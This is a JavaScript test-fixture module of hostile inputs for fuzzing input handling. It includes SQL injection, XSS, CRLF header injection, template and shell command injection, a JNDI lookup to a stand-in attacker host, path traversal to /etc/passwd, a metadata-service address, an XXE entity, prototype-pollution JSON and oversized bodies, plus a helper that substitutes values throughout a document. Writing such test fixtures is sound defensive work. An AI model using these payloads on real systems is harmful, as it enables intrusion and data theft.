// What nobody means well with: texts, and values and documents made of them. Whatever takes a text from
// outside is held to its laws with all of these.

const MEGABYTE = 1024 * 1024;

/** @type {Record<string, string>} */
export const TEXTS = {
  empty: "",
  space: " ",
  tab: "\t",
  "no-break space": "\u00a0",
  "the prototype": "__proto__",
  constructor: "constructor",
  prototype: "prototype",
  "a method": "toString",
  "another method": "hasOwnProperty",
  "a getter": "__defineGetter__",
  "a promise": "then",
  CRLF: "a\r\nX-Injected: 1\r\n\r\n<script>alert(1)</script>",
  "a line": "a\nSet-Cookie: x-injected=1",
  "CRLF, encoded": "%0d%0aX-Injected:%201%0d%0a%0d%0abody",
  "CRLF of other characters": "a\u560d\u560aX-Injected: 1",
  NUL: "a\u0000b",
  escape: "\u001b[2J\u001b]0;title\u0007",
  "line separators": "a\u2028b\u2029c",
  bidi: "\u202egnp.exe\u2066\u200f",
  "half a character": "a\ud800b",
  "the other half": "\udc00",
  "no character": "\ufffe\uffff",
  "byte order mark": "\ufeff{}",
  "zero width": "a\u200bb\u200d",
  "a pile": `Z${"\u0351\u036b\u0343".repeat(50)}`,
  family: "👩‍👩‍👧‍👦",
  "other digits": "١٢٣",
  wide: "/../",
  "long number": "9".repeat(400),
  "large exponent": "1e400",
  "minus nothing": "-0",
  hexadecimal: "0x7fffffff",
  "beyond 32 bits": "4294967296",
  "beyond 53 bits": "9007199254740993",
  "beyond 64 bits": "-9223372036854775809",
  "no number": "NaN",
  "no end": "Infinity",
  SQL: "'; DROP TABLE records; --",
  "more SQL": '" OR ""="\' UNION SELECT * FROM sqlite_master --',
  pattern: "%_*?[a-z]{1,99999}",
  script: "<script>alert(1)</script>",
  image: '"><img src=x onerror=alert(1)>',
  "end of a script": "</script><svg/onload=alert(1)>",
  "a scheme": "javascript:alert(1)",
  "a page of data": "data:text/html,<script>alert(1)</script>",
  "a template": ["{{7*7}}$", "{7*7}<%= 7*7 %>#{7*7}"].join(""),
  "a parameter": "{found}{0}{limit}",
  format: "%s%n%x%p",
  lookup: ["$", "{jndi:ldap://evil.example/a}"].join(""),
  shell: "$(id)`id`|id;id&&id",
  "up and up": "../../../../../../etc/passwd",
  "up, encoded": "..%2f..%2f..%2fetc%2fpasswd",
  "up, encoded twice": "%252e%252e%252fetc%252fpasswd",
  "up, overlong": "%c0%ae%c0%ae%c0%af",
  "up, backwards": "..\\..\\..\\windows\\win.ini",
  "up, with a parameter": "..;/..;/",
  dot: ".",
  dots: "..",
  slashes: "//evil.example/",
  "a file": "file:///etc/passwd",
  "an address": "http://169.254.169.254/latest/meta-data/",
  "an address with a name": "https://user:pass@evil.example/",
  percent: "%",
  "percent and nothing": "%zz",
  "no UTF-8": "%ff%fe",
  "NUL, encoded": "%00",
  "percent of old": "%u0000",
  quotes: "\"'`",
  backslash: "\\",
  JSON: '{"__proto__":{"polluted":true}}',
  "JSON, closed": '"}],"polluted":true}',
  XML: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  "300 characters": "k".repeat(300),
  "5,000 characters": "é".repeat(5_000),
};

/** As long as a body may be, nearly. */
export const LONG = "x".repeat(MEGABYTE - 4096);

const nested = (open, close, depth) => open.repeat(depth) + close.repeat(depth);

/** Whole bodies. @type {Record<string, string | Uint8Array<ArrayBuffer>>} */
export const BODIES = {
  ...TEXTS,
  "a prototype": '{"__proto__": {"polluted": true}}',
  "a constructor": '{"constructor": {"prototype": {"polluted": true}}}',
  "prototypes in a list": '[{"__proto__": {"polluted": true}}, {"__proto__": null}]',
  "deep lists": nested("[", "]", 200_000),
  "deep objects": `${'{"a":'.repeat(100_000)}1${"}".repeat(100_000)}`,
  "deep, without an end": "[".repeat(500_000),
  "a long number": `{"a": ${"9".repeat(100_000)}}`,
  "a large exponent": '{"a": 1e999999999}',
  "a member twice": '{"id": 1, "id": 2, "links": [], "links": [1]}',
  "many members": `{${Array.from({ length: 30_000 }, (_, at) => `"m${at}":${at}`).join()}}`,
  "many mistakes": `[${"{},".repeat(30_000)}{}]`,
  "a long text": JSON.stringify({ a: LONG }),
  "a long member": JSON.stringify({ [LONG]: 1 }),
  "many escapes": `"${"\\u0000".repeat(50_000)}"`,
  "no UTF-8": new Uint8Array([0x7b, 0x22, 0xff, 0xfe, 0xc0, 0x80, 0x22, 0x3a, 0x31, 0x7d]),
  "UTF-16": new Uint8Array([0xff, 0xfe, 0x7b, 0, 0x7d, 0]),
  "a surrogate in UTF-8": new Uint8Array([0x22, 0xed, 0xa0, 0x80, 0x22]),
  "gzip, of something": new Uint8Array([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 3, 0, 0, 0, 0, 0]),
  "only NUL": new Uint8Array(1000),
};

/** In the place of any value of a document. @type {Record<string, unknown>} */
export const VALUES = {
  ...TEXTS,
  null: null,
  true: true,
  zero: 0,
  "minus one": -1,
  fraction: 0.1,
  "the largest number": Number.MAX_VALUE,
  "the largest whole number": Number.MAX_SAFE_INTEGER,
  "an empty list": [],
  "a list of lists": [[[]], [[]]],
  "an empty object": {},
  "an object with a prototype": JSON.parse('{"__proto__": {"polluted": true}, "constructor": 1}'),
  "a long list": Array.from({ length: 2_000 }, () => "x"),
  "60 KB": "\u0001".repeat(10_000),
  "1 MB": LONG,
};

/**
 * A document, with another value in each place in turn: in place of each value, and as a member more of
 * each object.
 * @param {unknown} document
 * @returns {Generator<{at: string, isNew: boolean, with: (value: unknown) => unknown}>}
 */
export function* placesOf(document) {
  yield { at: "", isNew: false, with: (value) => value };
  if (Array.isArray(document)) {
    for (const [index, inner] of document.entries())
      for (const place of placesOf(inner))
        yield {
          ...place,
          at: `/${index}${place.at}`,
          with: (value) => document.with(index, place.with(value)),
        };
    return;
  }
  if (Object.prototype.toString.call(document) !== "[object Object]") return;
  const object = /** @type {Record<string, unknown>} */ (document);
  for (const [name, inner] of Object.entries(object))
    for (const place of placesOf(inner))
      yield {
        ...place,
        at: `/${name}${place.at}`,
        with: (value) => ({ ...object, [name]: place.with(value) }),
      };
  for (const name of ["__proto__", "constructor", "toString", "then", "\u0000"])
    yield { at: `/${name}`, isNew: true, with: (value) => withOwn(object, name, value) };
}

/** A member of its own, whatever it is called. */
const withOwn = (object, name, value) =>
  Object.defineProperty({ ...object }, name, { value, enumerable: true, configurable: true });

/** What every object has; nothing more may ever be there. */
const OWN = [Object, Array, Function, String, Number, Map, Promise].map(({ prototype }) => [
  prototype,
  Reflect.ownKeys(prototype).length,
]);

/** Whether every object is still as it was. */
export const isUnpolluted = () =>
  OWN.every(([prototype, count]) => Reflect.ownKeys(prototype).length === count);

/** What is tried of {@link VALUES} as a member more. */
export const FEW = new Set(["a method", "script", "null", "an object with a prototype"]);
